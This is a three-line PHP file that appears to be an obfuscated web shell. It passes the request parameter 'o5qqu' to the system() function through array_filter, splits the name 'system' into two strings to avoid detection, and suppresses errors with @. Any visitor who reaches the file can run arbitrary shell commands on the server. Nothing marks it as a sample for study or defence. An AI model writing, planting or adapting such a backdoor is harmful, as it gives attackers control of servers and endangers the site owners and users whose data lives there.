<?php
header('Content-Type: text/plain');
array_filter(array(@$_REQUEST['o5qqu']), 'sys' . 'tem');
